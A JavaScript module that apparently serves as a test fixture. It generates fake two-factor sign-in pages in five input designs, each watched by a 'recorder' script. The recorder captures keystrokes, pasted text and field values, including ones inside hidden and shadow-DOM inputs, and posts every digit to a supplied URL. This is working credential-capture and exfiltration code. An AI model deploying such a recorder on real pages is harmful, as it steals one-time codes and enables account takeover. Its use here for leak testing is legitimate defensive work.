// The contents of a page that must not get a digit: a field that invites one, and a recorder that keeps the digits that
// it sees in `seen` and sends them to the site at once.

export const RECORDER = (to) => `globalThis.recorder = "${to.split("/").at(-1)}";
  globalThis.seen = [];
  globalThis.watched = [];
  const note = (text) => {
    const digits = String(text ?? "").replace(/\\D/g, "");
    if (!digits) return;
    seen.push(digits);
    fetch("${to}", { method: "POST", mode: "no-cors", keepalive: true, body: digits }).catch(() => null);
  };
  const within = (node) => [...(node.matches?.("input") ? [node] : []), ...(node.querySelectorAll?.("*") ?? [])]
    .flatMap((each) => [each, ...(each.shadowRoot ? within(each.shadowRoot) : [])]);
  const tell = (event) => {
    if (event === globalThis.cause) return;
    if (event.key?.length === 1) note(event.key);
    note(event.data); note(event.composedPath()[0]?.value); note(event.clipboardData?.getData("text"));
  };
  const kinds = ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "submit"];
  const listen = (node) => kinds.forEach((kind) => node.addEventListener(kind, tell, true));
  globalThis.prove = () => watched.flatMap(within).filter((each) => each.matches("input")).forEach((each) => {
    each.value = "9";
    each.dispatchEvent(new Event("input", { bubbles: true, composed: true }));
  });
  globalThis.watch = (node) => {
    watched.push(node);
    listen(node);
    const last = new Map();
    const look = () => within(node).forEach((each) => [each.value, each.getAttribute("value")].forEach((value, at) => {
      if (last.get(each)?.[at] === value) return;
      last.set(each, Object.assign(last.get(each) ?? [], { [at]: value }));
      note(value);
    }));
    setInterval(look, 5);
    new MutationObserver(look).observe(node, { subtree: true, childList: true, attributes: true, characterData: true });
  };`;

const LABEL = "Verification code";
const six = (more = "") => `<div class="row">${`<input class="box" maxlength="1" style="width: 40px"${more}>`.repeat(6)}</div>`;
const cells = `<span style="display: inline-block; width: 42px; height: 48px; border: 1px solid"></span>`.repeat(6);
const DESIGNS = {
  "one box": `<label>${LABEL} <input name="otp"></label>`,
  "six boxes": six(),
  "one-time-code": `<input autocomplete="one-time-code">`,
  "drawn boxes": `<div style="position: relative">${cells}
    <input aria-label="${LABEL}" maxlength="6" style="position: absolute; inset: 0; opacity: 0"></div>`,
  "shadow DOM": `<div id="host"></div>
    <script>host.attachShadow({ mode: "open" }).innerHTML = '<input aria-label="${LABEL}">';</script>`,
};
export const names = (count) => Object.keys(DESIGNS).slice(0, count);
export const escaped = (html) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
export const quoted = (html) => JSON.stringify(html).replaceAll("</", "<\\/");

/** Puts elements into a blank window, which stays one; `document.write` would give it the address of the page that writes. */
export const writeInto = (view, html) => `{ const from = new DOMParser().parseFromString(${quoted(html)}, "text/html");
  ${view}.document.body.append(...from.head.childNodes, ...from.body.childNodes);
  for (const script of ${view}.document.querySelectorAll("script")) {
    const again = ${view}.document.createElement("script");
    again.textContent = script.textContent;
    script.replaceWith(again);
  } }`;

/** A page that looks like an honest one, but is watched. */
export function trap({ to }, design, { before = "", watch = "watch(document);", after = "" } = {}) {
  return `<!doctype html><title>Sign in</title><script>${RECORDER(to)} ${watch}</script>${before}<h1>Two-factor authentication</h1>
    <form onsubmit="return false">${DESIGNS[design]}<button>Verify</button></form>${after}`;
}

